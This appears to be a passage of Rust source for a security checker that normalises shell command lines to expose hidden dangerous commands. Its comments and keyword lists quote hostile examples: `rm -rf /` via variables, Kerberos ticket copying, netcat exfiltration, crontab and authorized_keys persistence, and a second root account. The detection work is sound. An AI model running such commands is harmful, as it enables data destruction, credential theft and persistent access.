//! Shell normalisation: turns a command line into the simple commands a
//! shell would run, the way an attacker cannot easily hide from.
//!
//! We do not execute anything and we do not try to be bash. We undo the
//! tricks that defeat a regex over the raw text: quotes and backslashes
//! inside words (`r''m`, `\rm`), ANSI-C `$'\x63'` escapes, variables set
//! earlier in the same line (`X=rm; $X -rf /`), `${VAR:-default}`, `$IFS`,
//! brace lists (`{rm,-rf,/}`), absolute binary paths, wrappers
//! (`env`, `command`, `busybox`, `nohup`, `timeout` ...). Code hidden in
//! arguments — `sh -c '...'`, `eval`, heredocs and here-strings fed to a
//! shell, `$(...)`, backticks, `<(...)`, literals piped into a shell — is
//! collected as nested scripts and parsed the same way (depth-bounded).

use super::text::Has;
use std::collections::HashMap;

/// How far nested scripts are followed (`sh -c "eval \"$(...)\""`).
pub const MAX_DEPTH: usize = 4;
/// Bound on simple commands kept per parse, whatever the input size.
pub const MAX_SEGMENTS: usize = 512;

/// What separates a simple command from the next one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sep {
    /// `;`, newline, `&`, end of input, a subshell paren.
    Seq,
    And,
    Or,
    Pipe,
}

#[derive(Debug, Clone, Default)]
pub struct Redir {
    /// The operator as written, with its fd: `>`, `2>&1`, `<<<`, `>&`.
    pub op: String,
    pub target: String,
}

/// One simple command after normalisation.
#[derive(Debug, Clone)]
pub struct Segment {
    /// Ran under `sudo`/`doas` (or `su -c`).
    pub sudo: bool,
    /// The command word: basename, lowercased (`/usr/bin/rm` → `rm`).
    pub cmd: String,
    /// The command word as written after unquoting (`/tmp/x`, `./run`).
    pub cmd_path: String,
    pub args: Vec<String>,
    pub redirs: Vec<Redir>,
    /// Heredoc or here-string body, if any.
    pub stdin_text: Option<String>,
    /// Scripts found inside this command's words: `$(...)`, backticks, `<(...)`.
    pub substitutions: Vec<String>,
    /// Separator after this command.
    pub sep: Sep,
    /// Index of the pipeline this command belongs to.
    pub pipeline: usize,
    /// Rendered `[sudo ]cmd args redirs`, what segment patterns match.
    pub text: String,
    /// Run by `xargs` (unwrapped above): its input arrives as arguments
    /// from the pipe.
    pub xargs: bool,
}

impl Segment {
    pub fn has_arg(&self, a: &str) -> bool {
        self.args.iter().any(|x| x == a)
    }
    /// The argument after the first of `names` (`-o out.bin`).
    pub fn option_value(&self, names: &[&str]) -> Option<&str> {
        self.args
            .windows(2)
            .find(|w| names.contains(&w[0].as_str()))
            .map(|w| w[1].as_str())
    }

    /// A short flag letter anywhere in a cluster (`-rf` has `r` and `f`),
    /// or the long form.
    pub fn has_flag(&self, short: char, long: &str) -> bool {
        self.args.iter().any(|a| {
            (a.starts_with('-') && !a.starts_with("--") && a.len() > 1 && a[1..].contains(short))
                || (!long.is_empty() && a == long)
        })
    }
    pub fn operands(&self) -> impl Iterator<Item = &String> {
        self.args.iter().filter(|a| !a.starts_with('-'))
    }
}

/// The result of a parse: simple commands in order, plus nested scripts
/// (already parsed, flattened into `segments` with their own pipelines).
#[derive(Debug, Default)]
pub struct Script {
    pub segments: Vec<Segment>,
    /// Texts that nested code was recovered from, for text-level checks
    /// (decoded base64, reversed strings, `-c` arguments).
    pub decoded: Vec<String>,
    /// Words that looked deliberately obfuscated (quote-split names, hex
    /// escapes, `$IFS`).
    pub obfuscated: bool,
    /// Parsing hit `MAX_SEGMENTS` or `MAX_DEPTH`.
    pub truncated: bool,
    pipelines: usize,
}

pub const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "tcsh", "csh",
];
pub const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "deno",
    "bun",
    "pwsh",
    "powershell",
];

pub fn is_shell(cmd: &str) -> bool {
    SHELLS.contains(&cmd)
}

pub fn is_interpreter(cmd: &str) -> bool {
    INTERPRETERS.contains(&cmd) || cmd.starts_with("python3.") || cmd.starts_with("python2.")
}

/// `s` as one single-quoted shell word (`'…'\''…'`), to hand code or an
/// argument to the parser as the command line that would run it.
pub fn single_quoted(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Parses `src` into a [`Script`].
pub fn parse(src: &str) -> Script {
    let mut s = Script::default();
    let mut vars = HashMap::new();
    parse_into(src, 0, &mut s, &mut vars);
    s
}

#[cfg(test)]
thread_local! {
    /// Parses run on this thread: tests bound the work a check may do.
    pub static PARSES: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

fn parse_into(src: &str, depth: usize, out: &mut Script, vars: &mut HashMap<String, String>) {
    #[cfg(test)]
    PARSES.with(|p| p.set(p.get() + 1));
    if depth > MAX_DEPTH {
        out.truncated = true;
        return;
    }
    let mut lx = Lexer {
        s: src.as_bytes(),
        src,
        i: 0,
        vars,
        obfuscated: false,
        substitutions: Vec::new(),
        pending_heredocs: Vec::new(),
        depth,
    };
    let mut raw: Vec<RawSegment> = Vec::new();
    loop {
        if raw.len() >= MAX_SEGMENTS {
            out.truncated = true;
            break;
        }
        let (seg, sep, more) = lx.segment();
        if let Some(seg) = seg {
            raw.push(RawSegment { seg, sep });
        } else if let Some(last) = raw.last_mut() {
            // `a | ;` or a trailing `&`: the stronger separator wins.
            if sep != Sep::Seq {
                last.sep = sep;
            }
        }
        if !more {
            break;
        }
    }
    out.obfuscated |= lx.obfuscated;
    let base_pipeline = out.pipelines;
    let mut pipeline = base_pipeline;
    let mut nested: Vec<(String, bool)> = Vec::new();
    let first_new = out.segments.len();
    for r in raw {
        let mut seg = r.seg;
        seg.sep = r.sep;
        seg.pipeline = pipeline;
        if r.sep != Sep::Pipe {
            pipeline += 1;
        }
        for sub in &seg.substitutions {
            nested.push((sub.clone(), false));
        }
        collect_nested(&seg, &mut nested);
        if out.segments.len() < MAX_SEGMENTS {
            out.segments.push(seg);
        } else {
            out.truncated = true;
        }
    }
    out.pipelines = pipeline + 1;
    // Literals piped into a shell: `echo 'cmd' | sh`, through `rev` or
    // `base64 -d` on the way.
    collect_piped_literals(&out.segments[first_new..], &mut nested);
    // Bash evaluates an array subscript's `$(…)` whenever a value is used
    // in arithmetic (`x='a[$(cmd)]'; (( x ))`, `let`, `[[ $x -eq 1 ]]`),
    // quoted or not: the command in such a subscript runs.
    if src.contains("[$(")
        && ["((", "let ", "-eq", "-ne", "-lt", "-gt", "-le", "-ge"]
            .iter()
            .any(|k| src.contains(k))
    {
        nested.extend(subscript_commands(src).into_iter().map(|c| (c, false)));
    }
    for (text, decoded) in nested {
        if decoded {
            out.decoded.push(text.clone());
        }
        let mut inner_vars = vars.clone();
        parse_into(&text, depth + 1, out, &mut inner_vars);
    }
}

struct RawSegment {
    seg: Segment,
    sep: Sep,
}

/// Code carried inside one command's arguments.
fn collect_nested(seg: &Segment, nested: &mut Vec<(String, bool)>) {
    let cmd = seg.cmd.as_str();
    // `sh -c 'script'`, also when the shell is an argument
    // (`find -exec sh -c '...'`, `xargs bash -c`, `su -c`, `sudo sh -c`).
    let mut words: Vec<&str> = Vec::with_capacity(seg.args.len() + 1);
    words.push(cmd);
    words.extend(seg.args.iter().map(|s| s.as_str()));
    for w in 0..words.len() {
        let base = basename(words[w]);
        if is_shell(&base) || base == "su" || base == "runuser" {
            let mut j = w + 1;
            while j < words.len() && words[j].starts_with('-') {
                if words[j] == "-c"
                    || (words[j].len() > 2
                        && words[j].ends_with('c')
                        && !words[j].starts_with("--"))
                {
                    if let Some(script) = words.get(j + 1) {
                        nested.push((script.to_string(), false));
                    }
                    break;
                }
                j += 1;
            }
        }
    }
    // Options whose value a tool runs as a command: ssh's ProxyCommand and
    // LocalCommand (`-o K=V`, `-oK=V`, `-o 'K V'`), git's `-c
    // core.sshCommand=V`, rsync's `-e V`/`--rsh=V`, tar's
    // `--use-compress-program=V`, `--to-command=V`, `--checkpoint-action=exec=V`.
    for (i, a) in seg.args.iter().enumerate().take(64) {
        let next = seg.args.get(i + 1).map(|n| n.as_str());
        if let Some(v) = helper_command(cmd, a, next) {
            nested.push((v.to_string(), false));
        }
    }
    // `find ROOT -name PAT -exec CMD {} …`: CMD runs on what PAT picks
    // under ROOT (`find /tmp -name 'krb5cc_*' -exec cp {} /dev/shm/ \;` is
    // `cp /tmp/krb5cc_* /dev/shm/`).
    if cmd == "find" {
        if let Some(line) = find_exec_command(&seg.args) {
            nested.push((line, false));
        }
    }
    match cmd {
        "eval" => nested.push((seg.args.join(" "), false)),
        // `ssh host 'cmd'` runs cmd remotely; `at`/`batch` run stdin later;
        // `watch 'cmd'` repeats it.
        "ssh" => {
            if let Some(remote) = ssh_remote_command(&seg.args) {
                nested.push((remote, false));
            }
        }
        // A command run inside a container or pod is still run by this
        // call: `kubectl exec pod -- cat token`, `docker exec -it c sh`.
        "kubectl" | "oc" | "lxc" | "incus" | "docker" | "podman" | "nerdctl" => {
            if let Some(inner) = container_exec_command(cmd, &seg.args) {
                nested.push((inner, false));
            }
        }
        // Git runs these config values through a shell.
        // `alias sudo='…'`: the alias runs its text whenever the name is typed.
        "alias" => {
            for a in seg.args.iter().take(16) {
                if let Some((_, v)) = a.split_once('=') {
                    if !v.trim().is_empty() {
                        nested.push((v.to_string(), false));
                    }
                }
            }
        }
        // Fan-out runners run their command on every host they reach:
        // `ansible all -m shell -a CMD`, `salt '*' cmd.run CMD`, `pdsh -w
        // hosts CMD`, `pssh -h hosts CMD`.
        "ansible" => {
            let module = seg
                .args
                .windows(2)
                .find(|w| w[0] == "-m" || w[0] == "--module-name");
            let runs = module.is_none_or(|w| {
                matches!(
                    w[1].as_str(),
                    "shell"
                        | "command"
                        | "raw"
                        | "ansible.builtin.shell"
                        | "ansible.builtin.command"
                        | "ansible.builtin.raw"
                )
            });
            if let Some(w) = seg
                .args
                .windows(2)
                .find(|w| w[0] == "-a" || w[0] == "--args")
            {
                if runs {
                    nested.push((w[1].clone(), false));
                }
                // Modules that are shell commands in other words: a key
                // added to an account, a cron job (judged as those).
                let kv = |k: &str| -> Option<String> {
                    let at = w[1].find(&format!("{k}="))? + k.len() + 1;
                    let rest = &w[1][at..];
                    let v = match rest.chars().next()? {
                        q @ ('\'' | '"') => rest[1..].split(q).next()?,
                        _ => rest.split_whitespace().next()?,
                    };
                    Some(v.to_string())
                };
                match module.map(|m| {
                    m[1].trim_start_matches("ansible.builtin.")
                        .trim_start_matches("ansible.posix.")
                }) {
                    Some("authorized_key") => {
                        if let (Some(user), Some(key)) = (kv("user"), kv("key")) {
                            let home = if user == "root" {
                                "/root".to_string()
                            } else {
                                format!("/home/{user}")
                            };
                            nested.push((
                                format!("echo '{key}' >> {home}/.ssh/authorized_keys"),
                                false,
                            ));
                        }
                    }
                    Some("cron") => {
                        if let Some(job) = kv("job") {
                            nested.push((
                                format!("(crontab -l; echo '* * * * * {job}') | crontab -"),
                                false,
                            ));
                        }
                    }
                    _ => {}
                }
                // The user module with uid=0 and non_unique: a second root
                // account on every host (`useradd -o -u 0`).
                if module.is_some_and(|m| m[1] == "user" || m[1] == "ansible.builtin.user")
                    && w[1].contains("uid=0")
                {
                    if let Some(name) = w[1]
                        .split_whitespace()
                        .find_map(|kv| kv.strip_prefix("name="))
                    {
                        nested.push((format!("useradd -o -u 0 {name}"), false));
                    }
                }
            }
        }
        "salt" | "salt-ssh" => {
            if let Some(i) = seg
                .args
                .iter()
                .position(|a| a == "cmd.run" || a == "cmd.shell")
            {
                if let Some(c) = seg.args.get(i + 1) {
                    nested.push((c.clone(), false));
                }
            }
        }
        "pdsh" | "pssh" | "parallel-ssh" | "clush" => {
            let mut rest = seg.args.iter().peekable();
            let mut cmdline = Vec::new();
            while let Some(a) = rest.next() {
                if a.starts_with('-') {
                    // Options with a value (`-w hosts`, `-h file`, `-l user`).
                    if a.len() == 2 && !matches!(a.as_str(), "-i" | "-P" | "-A" | "-v") {
                        rest.next();
                    }
                } else {
                    cmdline.push(a.as_str());
                }
            }
            if !cmdline.is_empty() {
                nested.push((cmdline.join(" "), false));
            }
        }
        // Cloud "run this on the VM" calls: the script is a command this
        // call runs (`az vm run-command invoke --scripts S`, a startup
        // script set in instance metadata, `aws ssm send-command
        // --parameters commands=[…]`).
        "az" | "gcloud" | "aws" => {
            for (i, a) in seg.args.iter().enumerate().take(64) {
                let value = match a.as_str() {
                    "--scripts" => seg.args.get(i + 1).map(|v| v.as_str()),
                    _ if a.starts_with("--scripts=") => Some(&a[10..]),
                    _ => None,
                }
                .or_else(|| {
                    let m = a
                        .strip_prefix("startup-script=")
                        .or_else(|| a.strip_prefix("--metadata=startup-script="));
                    m.or_else(|| {
                        (a == "--metadata")
                            .then(|| seg.args.get(i + 1))
                            .flatten()
                            .and_then(|v| v.strip_prefix("startup-script="))
                    })
                })
                .or_else(|| {
                    a.strip_prefix("commands=")
                        .or_else(|| a.strip_prefix("'commands="))
                        .map(|c| {
                            c.trim_start_matches('[')
                                .trim_end_matches(']')
                                .trim_matches(|q| q == '"' || q == '\'')
                        })
                });
                if let Some(v) = value.filter(|v| !v.trim().is_empty()) {
                    nested.push((v.to_string(), false));
                }
            }
        }
        // `npm pkg set scripts.postinstall="…"` (and `npm set-script`)
        // writes a script npm runs later, on install or by name.
        "npm" | "pnpm" => {
            let a: Vec<&str> = seg.args.iter().map(|s| s.as_str()).collect();
            if a.first() == Some(&"pkg") && a.get(1) == Some(&"set") {
                for kv in a[2..].iter().take(16) {
                    if let Some(v) = kv.strip_prefix("scripts.").and_then(|r| r.split_once('=')) {
                        nested.push((v.1.to_string(), false));
                    }
                }
            } else if a.first() == Some(&"set-script") && a.len() >= 3 {
                nested.push((a[2..].join(" "), false));
            }
        }
        "git" => {
            if let Some((_, command)) = git_config_command(seg) {
                nested.push((command, false));
            }
        }
        "watch" => {
            let rest: Vec<&String> = seg.args.iter().skip_while(|a| a.starts_with('-')).collect();
            if !rest.is_empty() {
                nested.push((
                    rest.iter()
                        .map(|s| s.as_str())
                        .collect::<Vec<_>>()
                        .join(" "),
                    false,
                ));
            }
        }
        _ => {}
    }
    if let Some(body) = &seg.stdin_text {
        let runs_stdin = (is_shell(cmd) && !seg.args.iter().any(|a| !a.starts_with('-')))
            || cmd == "at"
            || cmd == "batch"
            || cmd == "ssh"
            || (cmd == "crontab" && seg.args.iter().any(|a| a == "-"));
        if runs_stdin {
            nested.push((body.clone(), false));
        }
        // `python3 - <<EOF … EOF`: the body is the program, read as if given
        // with -c (its reverse shells and file reads are judged the same).
        if let Some(code) = stdin_program(seg, body) {
            nested.push((code, false));
        }
    }
    // awk runs the commands it pipes from and to: `"cat F" | getline l`
    // reads a command's output, `print l | "nc H P"` feeds one, and both in
    // one program are a pipeline (judged as `cat F | nc H P`).
    if is_awk(cmd) {
        if let Some(prog) = seg
            .args
            .iter()
            .find(|a| !a.starts_with('-') && a.contains('"'))
        {
            let (sources, sinks) = awk_pipes(prog);
            if !sources.is_empty() && !sinks.is_empty() {
                nested.push((
                    format!("{} | {}", sources.join("; "), sinks.join("; ")),
                    false,
                ));
            } else {
                for c in sources.into_iter().chain(sinks) {
                    nested.push((c, false));
                }
            }
        }
    }
    // sed's `e` command runs its text as a shell command (`sed 'e id'`,
    // `sed '1e curl …'`).
    if cmd == "sed" || cmd == "gsed" {
        if let Some(script) = seg.args.iter().find(|a| !a.starts_with('-')) {
            let t = script
                .trim_start_matches(|c: char| c.is_ascii_digit() || c == '$')
                .trim_start();
            if let Some(c) = t.strip_prefix("e ") {
                nested.push((c.to_string(), false));
            }
        }
    }
    // A script handed over base64-encoded in an argument: cloud user data
    // (`--user-data`, `--metadata-from-file`), an environment value, a
    // container's command. It runs elsewhere, later; it is judged as if
    // it ran here. Only what decodes to script-like text counts: a
    // certificate or a token is data.
    if !is_interpreter(cmd) {
        for a in seg.args.iter().filter(|a| a.len() >= MIN_ENCODED_SCRIPT) {
            // `--metadata startup-script-b64=…`: the value after the key.
            let a = a
                .find('=')
                .filter(|&i| a.len() - i > MIN_ENCODED_SCRIPT)
                .map_or(a.as_str(), |i| &a[i + 1..]);
            for d in crate::coach::text::decode_base64_runs(a, looks_like_script) {
                nested.push((d, true));
            }
        }
    }
    // osascript's `do shell script "…"` and `do script "…"` run commands.
    if is_interpreter(cmd) || cmd == "osascript" || cmd == "swift" {
        for code in interpreter_code(seg) {
            for lit in exec_literals(&code) {
                nested.push((lit, false));
            }
            for d in crate::coach::text::decode_base64_literals(&code) {
                nested.push((d, true));
            }
            if names_hex_decoder(&code) {
                for d in crate::coach::text::decode_hex_literals(&code) {
                    nested.push((d, true));
                }
            }
        }
    }
}

/// Shortest argument searched for a base64-encoded script (`sh x` is 8
/// bytes encoded; a payload worth hiding is longer).
const MIN_ENCODED_SCRIPT: usize = 24;

/// Whether decoded text reads as a shell script rather than data: a
/// shebang, or a shell, fetcher or socket word.
fn looks_like_script(d: &str) -> bool {
    d.starts_with("#!")
        || [
            "/bin/", "/dev/tcp", "curl ", "wget ", "bash", "sh -", "| sh", "python", "nc ",
            "chmod ", "crontab", "nohup ", "base64 ",
        ]
        .iter()
        .any(|k| d.contains(k))
}

/// The command of find's first `-exec`/`-execdir`/`-ok`, with `{}` as the
/// paths the search picks: ROOT/PAT for `-name PAT` (or `-iname`), else
/// ROOT/*. `None` when there is no such action or its command is a shell
/// (the `sh -c` script is taken on its own).
fn find_exec_command(args: &[String]) -> Option<String> {
    let root = args.first().filter(|a| !a.starts_with('-'))?;
    let at = args
        .iter()
        .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))?;
    let first = args.get(at + 1)?;
    if is_shell(&basename(first)) {
        return None;
    }
    // A negated test (`! -name '*.pub'`, `-not -name …`) excludes names:
    // the search still picks everything else.
    // A test's value where the test is not negated (`! -name X`, `-not`).
    let test = |flags: &[&str]| {
        args.windows(3)
            .find(|w| flags.contains(&w[1].as_str()) && w[0] != "!" && w[0] != "-not")
            .map(|w| w[2].as_str())
    };
    let name = test(&["-name", "-iname"]).unwrap_or("*");
    // `-type d` picks directories: a trailing slash says so to the
    // judgements that tell a directory from a file (not for one branch of
    // an `-o`).
    let dirs = test(&["-type"]) == Some("d") && !args.iter().any(|a| a == "-o" || a == "-or");
    let picked = format!(
        "{}/{}{}",
        root.trim_end_matches('/'),
        name,
        if dirs { "/" } else { "" }
    );
    let mut line = Vec::new();
    for a in &args[at + 1..] {
        if a == ";" || a == "\\;" || a == "+" {
            break;
        }
        line.push(if a.contains("{}") {
            a.replace("{}", &picked)
        } else {
            a.clone()
        });
    }
    (!line.is_empty()).then(|| line.join(" "))
}

/// Option keys (lower-cased, with their `=`) whose value the tool runs as
/// a command line.
const HELPER_KEYS: &[&str] = &[
    "proxycommand=",
    "localcommand=",
    "knownhostscommand=",
    "--rsh=",
    "--rsh-command=",
    "--use-compress-program=",
    "--to-command=",
    "--info-script=",
    "--new-volume-script=",
    "--checkpoint-action=exec=",
];

/// The command in one option of `cmd`: `a` is the argument, `next` the one
/// after it (for options that take their value apart).
fn helper_command<'a>(cmd: &str, a: &'a str, next: Option<&'a str>) -> Option<&'a str> {
    // Most arguments are neither a `K=V`/`K V` option nor a flag that takes
    // one: leave them before any allocation (this runs on every argument).
    if !a.contains(['=', ' ']) && !matches!(a, "-o" | "-c" | "-e" | "--rsh") {
        return None;
    }
    // `-o V` / `-oV` (ssh, scp, sftp, sshfs) and `-c V` (git) carry K=V.
    let kv = match a {
        "-o" if matches!(cmd, "ssh" | "scp" | "sftp" | "sshfs" | "autossh") => next?,
        // `git -c KEY=VALUE`: git's own list of keys that run commands.
        "-c" if cmd == "git" => {
            let (k, v) = next?.split_once('=')?;
            return git_key_command(
                &k.to_ascii_lowercase(),
                v.trim_matches(|c| c == '\'' || c == '"'),
            );
        }
        "-e" if cmd == "rsync" => return next.filter(|v| !v.trim().is_empty()),
        "--rsh" if cmd == "rsync" => return next.filter(|v| !v.trim().is_empty()),
        _ => a.strip_prefix("-o").filter(|_| cmd != "git").unwrap_or(a),
    };
    let kv = kv.trim_matches(|c| c == '\'' || c == '"');
    let lower = kv.to_ascii_lowercase();
    // ssh also takes `ProxyCommand value` with a space.
    for key in ["proxycommand ", "localcommand "] {
        if lower.starts_with(key) {
            return Some(kv[key.len()..].trim()).filter(|v| !v.is_empty());
        }
    }
    let key = HELPER_KEYS.iter().find(|k| lower.starts_with(**k))?;
    let v = kv[key.len()..].trim();
    (!v.is_empty() && !v.eq_ignore_ascii_case("none")).then_some(v)
}

/// `git config KEY VALUE` where git runs VALUE as a command: a credential
/// helper or alias starting with `!`, core.sshCommand, core.pager,
/// core.editor, core.fsmonitor, core.askPass, diff.external, gpg.program,
/// sequence.editor, filter/merge/diff drivers. Returns the key (lowercased)
/// and the command.
pub fn git_config_command(seg: &Segment) -> Option<(String, String)> {
    if seg.cmd != "git" || seg.args.first().is_none_or(|a| a != "config") {
        return None;
    }
    let ops: Vec<&String> = seg.args[1..]
        .iter()
        .filter(|a| !a.starts_with('-'))
        .collect();
    let (key, value) = (ops.first()?.to_ascii_lowercase(), ops.get(1)?.as_str());
    let command = git_key_command(&key, value)?;
    Some((key, command.to_string()))
}

/// The command git runs for configuration `key` (lower-cased, dotted:
/// `core.sshcommand`, `alias.x`, `filter.lfs.clean`) set to `value`, if it
/// runs one: a credential helper or alias starting with `!`,
/// core.sshCommand, core.pager, core.editor, core.fsmonitor, core.askPass,
/// diff.external, gpg.program, sequence.editor, filter/merge/diff drivers.
/// One list for `git config`, `git -c` and configuration files.
pub fn git_key_command<'a>(key: &str, value: &'a str) -> Option<&'a str> {
    let bang = value.strip_prefix('!');
    let command = match key {
        // `credential.helper`, and one scoped to a URL
        // (`[credential "https://github.com"]`).
        k if k.starts_with("credential.") && k.ends_with(".helper") => bang,
        "core.sshcommand" | "core.pager" | "core.editor" | "core.fsmonitor" | "core.askpass"
        | "diff.external" | "gpg.program" | "sequence.editor" | "core.hookspath" => {
            Some(bang.unwrap_or(value))
        }
        k if k.starts_with("alias.") => bang,
        k if (k.starts_with("filter.") || k.starts_with("merge.") || k.starts_with("diff."))
            && [".clean", ".smudge", ".process", ".driver", ".textconv"]
                .iter()
                .any(|e| k.ends_with(e)) =>
        {
            Some(bang.unwrap_or(value))
        }
        _ => None,
    }?;
    (!command.trim().is_empty()).then_some(command)
}

/// The inline program of `python -c`, `perl -e`, `node -e`, `php -r`,
/// `ruby -e`, or a heredoc fed to the interpreter.
pub fn interpreter_code(seg: &Segment) -> Vec<String> {
    let mut out = Vec::new();
    let mut it = seg.args.iter();
    while let Some(a) = it.next() {
        if matches!(
            a.as_str(),
            "-c" | "-e" | "-r" | "-E" | "--eval" | "-p" | "--print" | "-Command" | "-command"
        ) {
            if let Some(code) = it.next() {
                out.push(code.clone());
            }
        } else if a.starts_with('-')
            && a.len() > 2
            && (a.ends_with('e') || a.ends_with('c'))
            && !a.starts_with("--")
        {
            // `perl -ne '...'`, `ruby -rsocket -e`
            if let Some(code) = it.next() {
                out.push(code.clone());
            }
        }
    }
    if let Some(body) = &seg.stdin_text {
        out.push(body.clone());
    }
    out
}

/// `'ab' + 'cd'`, `"ab" . "cd"`, `"ab" .. "cd"` and awk's `"ab" "cd"`:
/// two literals of the same quote joined by an operator or juxtaposed,
/// folded into one (`'abcd'`). None when there is nothing to fold.
pub(crate) fn fold_concatenations(code: &str) -> Option<String> {
    if code.len() > MAX_FOLD_CODE || !(code.contains('\'') || code.contains('"')) {
        return None;
    }
    let b = code.as_bytes();
    let mut out = String::with_capacity(code.len());
    let mut folded = false;
    let mut i = 0;
    let mut start = 0;
    while i < b.len() {
        let q = b[i];
        if q != b'\'' && q != b'"' {
            i += 1;
            continue;
        }
        // A literal from i: find its closing quote (backslash escapes).
        let mut j = i + 1;
        while j < b.len() && b[j] != q {
            j += if b[j] == b'\\' { 2 } else { 1 };
        }
        if j >= b.len() {
            break;
        }
        // After it: blanks, one joining operator or none, blanks, and the
        // same quote opening the next literal.
        let mut k = j + 1;
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        let op_start = k;
        while k < b.len() && (b[k] == b'+' || b[k] == b'.') && k - op_start < 2 {
            k += 1;
        }
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        if k < b.len() && b[k] == q && k > j + 1 {
            // Drop from the closing quote through the next opening one.
            out.push_str(&code[start..j]);
            start = k + 1;
            folded = true;
            // The joined literal goes on: scan it from its opening quote,
            // so a chain (`'a'+'b'+'c'`) folds whole.
            i = k;
            continue;
        }
        i = j + 1;
    }
    if !folded {
        return None;
    }
    out.push_str(&code[start..]);
    Some(out)
}

/// Expressions for the home directory in a program's code (also what the
/// model's deletion check reads as "under home"). A longer form comes
/// before the shorter one it contains, and `home_folded` takes the one
/// that starts first, so `os.getenv('HOME')` is replaced whole.
pub(crate) const HOME_EXPRS: &[&str] = &[
    "ENVIRON[\"HOME\"]",
    "os.environ['HOME']",
    "os.environ[\"HOME\"]",
    "os.getenv('HOME')",
    "os.getenv(\"HOME\")",
    "getenv(\"HOME\")",
    "getenv('HOME')",
    "process.env.HOME",
    "ENV['HOME']",
    "ENV[\"HOME\"]",
    "$ENV{HOME}",
    "os.homedir()",
    "Dir.home",
    "Path.home()",
    "expanduser('~')",
    "expanduser(\"~\")",
    "homedir()",
    "path to home folder",
];

/// `code` with each home-directory expression written as the literal `~`
/// (in the quotes of the literal before it) and literals then folded
/// (`'rm -rf ' + os.environ['HOME']` reads `'rm -rf ~'`). None when the
/// code names no home expression.
fn home_folded(code: &str) -> Option<String> {
    // Every expression names `HOME`, `home` or `expanduser`: most code
    // names none, and is passed over without a search per expression.
    if !(code.contains("HOME") || code.contains("home") || code.contains("expanduser")) {
        return None;
    }
    let mut out = String::new();
    let mut rest = code;
    while let Some((at, e)) = HOME_EXPRS
        .iter()
        .filter_map(|e| rest.find(e).map(|at| (at, e)))
        .min()
    {
        out.push_str(&rest[..at]);
        let q = match out.rfind(['\'', '"']).map(|i| out.as_bytes()[i]) {
            Some(b'\'') => "'~'",
            _ => "\"~\"",
        };
        out.push_str(q);
        rest = &rest[at + e.len()..];
    }
    if out.is_empty() {
        return None;
    }
    out.push_str(rest);
    Some(fold_concatenations(&out).unwrap_or(out))
}

/// Whether a program's code hands hex to a decoder (`pack q/H*/`,
/// `fromhex`, `unhexlify`, `hex2bin`, `Buffer.from(…, 'hex')`).
fn names_hex_decoder(code: &str) -> bool {
    ["H*", "fromhex", "unhexlify", "hex2bin", "'hex'", "\"hex\""]
        .iter()
        .any(|k| code.contains(k))
}

/// Literals in a program's code that a decoder in the same code turns into
/// text (`b64decode('L2V0Yy9zaGFkb3c=')`, `Buffer.from('2f6574…', 'hex')`),
/// replaced by that text so the code reads as what it runs on. Only text
/// decodes count: a hash or a random token decodes to bytes and stays.
/// None when nothing was replaced.
pub(crate) fn inline_decoded(code: &str) -> Option<String> {
    if code.len() > MAX_FOLD_CODE {
        return None;
    }
    let b64 = [
        "b64decode",
        "atob(",
        "base64",
        "decode64",
        "unpack",
        "decodebytes",
    ]
    .iter()
    .any(|k| code.contains(k));
    let hex = names_hex_decoder(code);
    if !b64 && !hex {
        return None;
    }
    let b = code.as_bytes();
    let (mut out, mut start, mut i, mut replaced) = (String::new(), 0, 0, 0);
    while i < b.len() && replaced < MAX_INLINE_DECODED {
        let q = b[i];
        if q != b'\'' && q != b'"' {
            i += 1;
            continue;
        }
        let Some(len) = code[i + 1..].find(q as char) else {
            break;
        };
        let lit = &code[i + 1..i + 1 + len];
        let decoded = if lit.len() < MIN_INLINE_LITERAL {
            None
        } else if hex && lit.bytes().all(|c| c.is_ascii_hexdigit()) {
            crate::coach::text::decode_hex(lit)
        } else if b64
            && lit
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
        {
            crate::coach::text::decode_base64(lit)
        } else {
            None
        };
        let decoded = decoded.filter(|d| {
            d.len() >= 4
                && d.bytes().all(|c| (b' '..=b'~').contains(&c))
                && !d.contains([q as char, '\\'])
                && d.contains(['/', ' ', '.'])
        });
        if let Some(d) = decoded {
            out.push_str(&code[start..i + 1]);
            out.push_str(&d);
            start = i + 1 + len;
            replaced += 1;
        }
        i += len + 2;
    }
    if replaced == 0 {
        return None;
    }
    out.push_str(&code[start..]);
    Some(out)
}

/// Shortest literal `inline_decoded` tries (a 3-byte path encodes to 4).
const MIN_INLINE_LITERAL: usize = 8;
/// Most literals `inline_decoded` replaces in one program.
const MAX_INLINE_DECODED: usize = 8;

/// Longest program `fold_concatenations` looks at.
const MAX_FOLD_CODE: usize = 16 << 10;

fn is_awk(cmd: &str) -> bool {
    matches!(cmd, "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk")
}

/// The commands an awk program pipes from (`"CMD" | getline`, `|&` too)
/// and prints into (`print … | "CMD"`), as string literals; at most a few.
fn awk_pipes(prog: &str) -> (Vec<String>, Vec<String>) {
    let (mut sources, mut sinks) = (Vec::new(), Vec::new());
    let mut from = 0;
    while let Some(p) = prog[from..].find('"') {
        let start = from + p;
        let Some((lit, used)) = crate::coach::text::code_literal(&prog[start + 1..], b'"') else {
            break;
        };
        from = start + 1 + used;
        if lit.trim().is_empty() || sources.len() + sinks.len() >= 8 {
            continue;
        }
        let after = prog[from..].trim_start();
        let before = prog[..start].trim_end();
        if after.starts_with('|')
            && after
                .trim_start_matches(['|', '&', ' '])
                .starts_with("getline")
        {
            sources.push(lit);
        } else if before.ends_with('|') || before.ends_with("|&") {
            // The statement the pipe ends: print or printf feed the command.
            // (`while ((…) > 0) print l | "CMD"`: the part after the loop's
            // condition.)
            let stmt = before
                .rsplit([';', '{', '}'])
                .next()
                .unwrap_or("")
                .trim_start();
            let tail = stmt.rsplit(')').next().unwrap_or("").trim_start();
            let printed = if tail.starts_with("print") {
                tail
            } else if stmt.starts_with("print") {
                stmt
